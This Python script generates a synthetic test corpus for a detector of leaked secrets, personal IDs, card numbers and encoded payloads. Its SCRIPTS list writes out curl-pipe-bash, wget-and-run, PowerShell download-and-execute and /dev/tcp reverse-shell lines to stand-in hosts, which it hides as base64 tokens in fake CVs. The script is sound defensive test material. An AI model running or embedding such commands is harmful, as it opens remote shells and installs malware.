# Generates the hundred-and-sixty-eighth content corpus (cases-168.jsonl): the seventy-second to seventy-fourth slices'
# secrets left, personal data missed and honest values flagged, by class, written in carriers, names and values of their
# own (a data team's exports, a meeting assistant's calendar, a recruiter's files), beside honest twins `ok168…` from
# the same carriers, BEFORE any rule changed:
#   cr168a  an app's secret written as its identifier (`client_secret`, `clientSecret`, `app_secret`, `webhook_secret`)
#           followed by a blank and the value, no colon or equals sign, after its client id, in prose of many languages;
#   pd168a  a Spanish DNI under Basque's label (`NAN`, `NAN zenbakia`), its letter right;
#   pd168b  an Aadhaar number grouped by four whose check passes, a caveat after it ("may be wrong"): a person's number;
#   cd168a  a card number outside the networks' published test numbers, with the words a test number is introduced with;
#   pd168c  a business's IBAN on its invoice or in a supplier table (the decision below: read whoever holds it);
#   cr168b  a meeting's passcode beside its id (the decision below: a credential; a dial-in PIN is not);
#   ok168a  the same secret's identifier with no value: a placeholder, a reference, a rotation notice, a column's name;
#   ok168b  `NAN` as a table's missing value, a DNI whose letter is wrong, a masked one;
#   ok168c  an Aadhaar grouped by four whose check fails and that the text says may be wrong (typed from memory, not
#           sure, to be confirmed);
#   ok168d  a processor's card token (`tok_…`, `pm_…`, `card_…`, `src_…`) under a token's or a method's key in an export;
#   ok168e  a network's published test number that the text calls published or says real cards are never used there;
#   ok168f  a dial-in participant PIN beside the bridge's number.
# Label decisions, made before any run (docs/content-readings.md, "The seventy-second to seventy-fourth slices' label
# questions"):
#   - A secret's identifier followed by a generated value is a credential whatever separates them; a placeholder, a
#     reference or a name alone is not.
#   - A processor's card token is a reference the processor resolves only with the merchant's secret key: no credential.
#   - A national id whose check passes is a person's, whatever caveat follows; one whose check fails and that the text
#     itself says may be wrong is no one's as written.
#   - A network's published test number is no person's card where the text says it is published for tests or that real
#     cards are not used there; with no such words the earlier slices' labels (a card) stand.
#   - A bank account is personal_data whoever holds it: a firm's IBAN is read as a person's (most slices label them so,
#     and a sole trader's or a person's account beside a firm's name cannot be told apart from the text).
#   - A meeting's passcode beside its id is a credential (most slices label it so: it keeps a closed session closed); a
#     dial-in participant PIN beside the bridge's number is not.
# Deterministic (seeded). Run: python3 test/corpus-content/generate168.py
import functools, json
json.dumps = functools.partial(json.dumps, ensure_ascii=False)
from corpuslib import Corpus, ALNUM, DIGITS, verhoeff
corpus = Corpus(20261680)
r = corpus.r

FIRSTS = ['Ainhoa', 'Koldo', 'Miren', 'Iker', 'Sunniva', 'Torbjørn', 'Ravi', 'Priya', 'Ewa', 'Luca', 'Hana', 'Tariq']
LASTS = ['Etxeberria', 'Goikoetxea', 'Aranburu', 'Lindqvist', 'Haugland', 'Menon', 'Iyer', 'Kowalczyk', 'Ferraro', 'Novak']
FIRMS = ['Gorbea Datuak', 'Skarvik Analyse', 'Tessaro Metrics', 'Ruvo Insight', 'Marenko Labs']
def person(): return f'{r.choice(FIRSTS)} {r.choice(LASTS)}'
def num(a, b): return r.randint(a, b)
def day(): return f'2026-{num(1, 12):02d}-{num(1, 28):02d}'


# Carriers: a CSV row's note, a JSON record's field, a log line, a notebook's output, minutes, an e-mail, a ticket, an ICS
# description. Each takes one line.
def c_csv(t):
    q = t.replace('"', '""')
    return f'row_id,owner,updated,note\nR-{num(1000, 9999)},{person()},{day()},ok\nR-{num(1000, 9999)},{person()},{day()},"{q}"'
def c_json(t): return json.dumps({'record': {'id': str(num(10**9, 10**10 - 1)), 'owner': person(), 'notes': t, 'updated': day()}}, indent=2)
def c_log(t):
    q = t.replace('"', "'")
    return f'{day()}T0{num(1, 9)}:{num(10, 59)}:01Z INFO sync start\n{day()}T0{num(1, 9)}:{num(10, 59)}:02Z WARN sync note="{q}"\n{day()}T0{num(1, 9)}:{num(10, 59)}:03Z INFO sync done'
def c_nb(t): return f'>>> df.loc[df.flag == 1, "comment"].tolist()\n[\'ok\', {json.dumps(t)}, \'check later\']'
def c_minutes(t): return f'MINUTES - {r.choice(FIRMS)} / project sync\nChair: {person()}\n\nItem 1. Status. On track.\nItem 2. {t}\nItem 3. AOB. None.'
def c_mail(t):
    n = person()
    return f'From: {n} <{n.split()[0].lower()}@{r.choice(["skarvik.example", "tessaro.example", "gorbea.example"])}>\nSubject: {r.choice(["Re: setup", "Follow-up", "Notes"])}\n\nHi,\n\n{t}\n\nBest,\n{n.split()[0]}'
def c_ticket(t): return json.dumps({'ticket': {'id': num(10000, 99999), 'subject': r.choice(['Integration setup', 'Data question', 'Access']), 'description': t, 'status': 'open'}}, indent=2)
def c_ics(t):
    d = t.replace('\n', '\\n').replace(',', '\\,')
    return f'BEGIN:VCALENDAR\nVERSION:2.0\nBEGIN:VEVENT\nUID:{corpus.rs("0123456789abcdef", 16)}@cal.example\nDTSTART:20260{num(1, 9)}{num(10, 28)}T090000Z\nSUMMARY:{r.choice(["Weekly sync", "Steering group", "Vendor call"])}\nDESCRIPTION:{d}\nEND:VEVENT\nEND:VCALENDAR'
CARRIERS = [c_csv, c_json, c_log, c_nb, c_minutes, c_mail, c_ticket, c_ics]
def carry(lines, offset=0): return [CARRIERS[(i + offset) % len(CARRIERS)](l) for i, l in enumerate(lines)]


# --- cr168a / ok168a: a secret's identifier, a blank, the value.
def client_id(): return corpus.mixed(22)
def secret(): return corpus.mixed(32)
SECRET_LINES = [
    'Conferencing integration (server-to-server app): client_id {i}, client_secret {s}',
    'Reporting connector registered: clientId {i} clientSecret {s} (scopes: read)',
    'Neue Schnittstelle angelegt: client_id {i}, client_secret {s}, bitte im Wiki ergänzen.',
    'Intégration du calendrier : client_id {i}, client_secret {s} (application serveur à serveur).',
    'Integración del CRM: client_id {i} y client_secret {s} para el entorno de producción.',
    'Webhook para el tablero: webhook_secret {s} (firma HMAC de cada evento).',
    'カレンダー連携アプリ: client_id {i}、client_secret {s}',
    'Nowa aplikacja w panelu: app_id {i}, app_secret {s}.',
    'Integrazione BI: client_id {i} client_secret {s} (creata oggi da Luca).',
    'Dashboard sync app -> client_id {i} | client_secret {s}',
    'Koppeling met de agenda: client_id {i}, client_secret {s}.',
    'Entegrasyon bilgileri: client_id {i}, client_secret {s} (sunucudan sunucuya).',
]
pos, secs = [], []
for t in SECRET_LINES:
    s = secret()
    pos.append(t.format(i=client_id(), s=s))
    secs.append(s)
corpus.add('cr168a', ['credential_leak'], carry(pos), secrets=secs)
OK_SECRET_LINES = [
    'Conferencing integration (server-to-server app): client_id {i}, client_secret stored in the team vault.',
    'Reporting connector: clientId {i}, clientSecret ${{REPORTING_CLIENT_SECRET}} from the environment.',
    'Neue Schnittstelle: client_id {i}, client_secret liegt im Passwort-Safe, nicht in der Mail.',
    'Intégration du calendrier : client_id {i}, client_secret <votre-secret> à remplacer.',
    'Integración del CRM: client_id {i}; el client_secret se rota el {d}.',
    'Webhook para el tablero: webhook_secret rotated on {d}, see the runbook.',
    'カレンダー連携アプリ: client_id {i}、client_secret は管理画面で再発行してください',
    'Nowa aplikacja: app_id {i}, app_secret w sejfie zespołu.',
    'Columns: client_id text, client_secret text (encrypted at rest), created_at timestamp.',
    'Dashboard sync app -> client_id {i} | client_secret ********',
    'Koppeling met de agenda: client_id {i}, client_secret opgevraagd bij IT.',
    'Entegrasyon: client_id {i}, client_secret alanı boş bırakıldı (PKCE kullanılıyor).',
]
corpus.add('ok168a', [], carry([t.format(i=client_id(), d=day()) for t in OK_SECRET_LINES], 3))


# --- pd168a / ok168b: the Spanish DNI under Basque's label.
DNI_LETTERS = 'TRWAGMYFPDXBNJZSQVHLCKE'
def dni(valid=True):
    n = num(10000000, 99999999)
    L = DNI_LETTERS[n % 23]
    if not valid: L = DNI_LETTERS[(n + num(1, 22)) % 23]
    return f'{n}{L}'
NAN_LINES = [
    'Bezeroa {p}, NAN {v}.',
    'Eskatzailea: {p} (NAN {v})',
    'NAN zenbakia: {v} — {p}',
    'Harremanetarako pertsona {p}, NAN: {v}',
    'Titularra {p}; NAN {v}; helbidea Bilbon.',
    'Langilea {p}, NAN-a {v}, kontratua sinatuta.',
    'Customer note (Basque form): {p}, NAN {v}',
    'Bazkidea: {p} / NAN {v}',
]
pos, secs = [], []
for t in NAN_LINES:
    v = dni()
    pos.append(t.format(p=person(), v=v))
    secs.append(v)
corpus.add('pd168a', ['personal_data'], carry(pos, 1), secrets=secs)
OK_NAN_LINES = [
    'Bezeroa {p}, NAN {b} (letra okerra, berriro eskatu).',
    'df.describe(): mean 4.2, std NAN {n}, count 118',
    'NAN zenbakia: ********{m} — {p}',
    'column kwh: NAN {n} rows after the join, filled with 0',
    'Titularra {p}; NAN eskatu gabe oraindik.',
    'Langilea {p}, NAN-a {b}? zenbakia ez dator bat.',
    'pandas warning: NAN {n} values in column "tariff"',
    'Bazkidea: {p} / NAN XXXXXXXXX (ezkutatua)',
]
corpus.add('ok168b', [], carry([t.format(p=person(), b=dni(False), n=num(10000000, 99999999), m=dni()[-4:]) for t in OK_NAN_LINES], 2))


# --- pd168b / ok168c: Aadhaar numbers with a caveat after them.
def aadhaar(valid=True):
    p = str(num(2, 9)) + corpus.rs(DIGITS, 10)
    d = verhoeff(p)
    if not valid: d = str((int(d) + num(1, 9)) % 10)
    n = p + d
    return f'{n[:4]} {n[4:8]} {n[8:]}'
CAVEATS = ['(typed from memory, may be wrong)', '- might be wrong, please recheck', '(not sure, could be incorrect)',
           '(to be confirmed, may be wrong)', '(written from memory; may be incorrect)', '(candidate unsure, might be wrong)']
AADHAAR_LINES = ['Remarks: Aadhaar number {v} {c}', 'Aadhaar: {v} {c}', 'Applicant says Aadhaar {v} {c}',
                 'Aadhaar no. {v} {c}', 'Reference check: Aadhaar {v} {c}', 'KYC note: Aadhaar {v} {c}']
pos, secs = [], []
for i, t in enumerate(AADHAAR_LINES):
    v = aadhaar()
    pos.append(t.format(v=v, c=CAVEATS[i]))
    secs.append(v)
corpus.add('pd168b', ['personal_data'], carry(pos, 4), secrets=secs)
corpus.add('ok168c', [], carry([t.format(v=aadhaar(False), c=CAVEATS[(i + 2) % len(CAVEATS)]) for i, t in enumerate(AADHAAR_LINES)], 5))


# --- ok168d: a processor's card token under a token's or a method's key.
def tok(prefix): return prefix + corpus.mixed(24)
TOKEN_LINES = [
    'card_bin=411773 issuer_country=SE token={a}',
    'payment_method={b} brand=visa last4=4417 exp=09/29',
    'charge ok: source={d} amount=1290 currency=NOK',
    'refund requested, card token {a}, reason=duplicate',
    'card_id={c} funding=debit country=DK',
    'stored card: token={a} (wallet), last4=0071',
    'checkout.session completed: payment_method {b}, status succeeded',
    'tokenised card {a} attached to customer cus_{e}',
]
corpus.add('ok168d', [], carry([t.format(a=tok('tok_'), b=tok('pm_'), c=tok('card_'), d=tok('src_'), e=corpus.mixed(14)) for t in TOKEN_LINES], 6))
# Their twins: a real secret under the same keys, no processor's object prefix.
pos, secs = [], []
for t in ['api_token={s} issuer_country=SE', 'session token={s} (expires in 1h)', 'refund bot auth token {s}, reason=duplicate']:
    s = corpus.mixed(32)
    pos.append(t.format(s=s))
    secs.append(s)
corpus.add('cr168c', ['credential_leak'], carry(pos, 1), secrets=secs)


# --- ok168e / cd168a: test numbers and the words around them.
TEST_LINES = [
    'Test data: {n} is the published test Visa; never use real cards in staging.',
    'QA note: {n} is the published test Mastercard, fine to paste in tickets.',
    'Sandbox only: pay with {n}. We never use real cards outside production.',
    'For the e2e suite use {n} (published test number, any CVC).',
    'Staging checkout: {n} is a published test Amex; real cards are never used in staging.',
    'Fixture card {n} - the network\'s published test card, not a real one.',
]
TESTS = ['4111 1111 1111 1111', '5555 5555 5555 4444', '4242 4242 4242 4242', '4012 8888 8888 1881', '3782 822463 10005', '5105 1051 0510 5100']
corpus.add('ok168e', [], carry([t.format(n=TESTS[i]) for i, t in enumerate(TEST_LINES)], 2))
def luhn_card(prefix, n=16):
    body = prefix + corpus.rs(DIGITS, n - len(prefix) - 1)
    s = 0
    for i, ch in enumerate(reversed(body)):
        d = int(ch)
        if i % 2 == 0:
            d *= 2
            if d > 9: d -= 9
        s += d
    c = str((10 - s % 10) % 10)
    x = body + c
    return ' '.join(x[i:i + 4] for i in range(0, n, 4))
pos, secs = [], []
for t in TEST_LINES:
    v = luhn_card(r.choice(['4', '51', '53']))
    pos.append(t.format(n=v))
    secs.append(v)
corpus.add('cd168a', ['card_number'], carry(pos, 3), secrets=secs)


# --- pd168c: a firm's IBAN, read as a person's (the decision above).
def iban(cc, length):
    bban = corpus.rs(DIGITS, length - 4)
    num_s = ''.join(str(int(ch, 36)) for ch in bban + cc) + '00'
    chk = 98 - int(num_s) % 97
    return f'{cc}{chk:02d}{bban}'
def spaced(s): return ' '.join(s[i:i + 4] for i in range(0, len(s), 4))
IBAN_LINES = [('Invoice {n}\nPayee: {f} AS, org. nr. 9{o} MVA\nIBAN {i}\nDue in 30 days.', 'NO', 15),
              ('supplier_id,supplier,iban\nS-{s},{f} GmbH,{i}', 'DE', 22),
              ('B2B customer {f} ASA pays from company account {i}.', 'FI', 18),
              ('Remit to {f} Ltd, IBAN {i}, quote the invoice number.', 'IE', 22)]
pos, secs = [], []
for t, cc, ln in IBAN_LINES:
    v = iban(cc, ln) if cc != 'IE' else 'IE' + '00'
    if cc == 'IE':
        bban = 'AIBK' + corpus.rs(DIGITS, 14)
        num_s = ''.join(str(int(ch, 36)) for ch in bban + 'IE') + '00'
        v = f'IE{98 - int(num_s) % 97:02d}{bban}'
    shown = spaced(v) if r.random() < 0.5 else v
    pos.append(t.format(n=f'INV-{num(10000, 99999)}', f=r.choice(FIRMS), o=num(10**7, 10**8 - 1), s=num(100, 999), i=shown))
    secs.append(shown)
corpus.add('pd168c', ['personal_data'], pos, wrap=False, secrets=secs)


# --- cr168b / ok168f: a meeting's passcode is a credential; a dial-in participant PIN is not.
pos, secs = [], []
for t in ['Join Zoom: https://zoom.us/j/8{a}\nMeeting ID: 8{b}\nPasscode: {p}', 'Webex: meeting number 2{c}, meeting password {p}',
          'Closed session - Meeting ID: 8{b}  Passcode: {p}']:
    p = corpus.mixed(8)
    pos.append(t.format(a=corpus.rs(DIGITS, 10), b=' '.join([corpus.rs(DIGITS, 2), corpus.rs(DIGITS, 4), corpus.rs(DIGITS, 4)]), c=corpus.rs(DIGITS, 9), p=p))
    secs.append(p)
corpus.add('cr168b', ['credential_leak'], carry(pos, 4), secrets=secs)
PIN_LINES = ['Dial-in: +44 20 {a} {b}, participant PIN {p}#', 'Konferenz-Einwahl: +49 69 {a}{b}, Teilnehmer-PIN {p}#',
             'Audio only: +1 646 558 {b}, participant code {p}#', 'Numéro d\'accès : +33 1 {a} {b}, code participant {p}#']
corpus.add('ok168f', [], carry([t.format(a=num(1000, 9999), b=num(1000, 9999), p=num(100000, 999999)) for t in PIN_LINES], 5))


# --- enc168a / cr168d: a value under a token's name that is base64 of a script or a reverse shell is encoded_payload's,
# not a key; base64 of random bytes or of a passphrase under the same names stays a credential.
from corpuslib import b64
import base64 as _b64
SCRIPTS = ['#!/bin/bash\ncurl -fsSL https://cdn-{h}.example/update.sh | bash\n',
           'bash -i >& /dev/tcp/203.0.113.{n}/4444 0>&1',
           'import os; os.system("wget -q http://files-{h}.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x")',
           'powershell -nop -w hidden -c "iex (New-Object Net.WebClient).DownloadString(\'http://198.51.100.{n}/a.ps1\')"']
LABELS = ['Verification token: {v}', 'Portfolio token: {v}', 'session_token={v}', 'Profile key: {v}']
enc = [LABELS[i % 4].format(v=b64(SCRIPTS[i % 4].format(h=corpus.rs('abcdefghij', 5), n=num(2, 250)))) for i in range(8)]
def c_cv(t): return f'CURRICULUM VITAE\n\n{person()}    +47 {num(400, 999)} {num(10, 99)} {num(100, 999)}\n\nPROFILE\n{t}\n\nEXPERIENCE\n2019 - 2024  Analyst, {r.choice(FIRMS)}'
corpus.add('enc168a', ['encoded_payload'], [[c_cv, c_minutes, c_mail][i % 3](t) for i, t in enumerate(enc)])
pos, secs = [], []
for i in range(4):
    v = _b64.b64encode(bytes(r.randrange(256) for _ in range(33))).decode()
    pos.append(['Verification token: {v}', 'Portfolio token: {v}', 'session_token={v}', 'API key: {v}'][i].format(v=v))
    secs.append(v)
v = b64(' '.join(r.choice(['copper', 'lantern', 'orbit', 'maple', 'quartz', 'harbor', 'velvet']) for _ in range(5)) + ' ' + str(num(10, 99)))
pos.append(f'apiVersion: v1\nkind: Secret\ndata:\n  password: {v}')
secs.append(v)
corpus.add('cr168d', ['credential_leak'], [c_cv(t) if i < 4 else t for i, t in enumerate(pos)], wrap=False, secrets=secs)

corpus.write('cases-168')
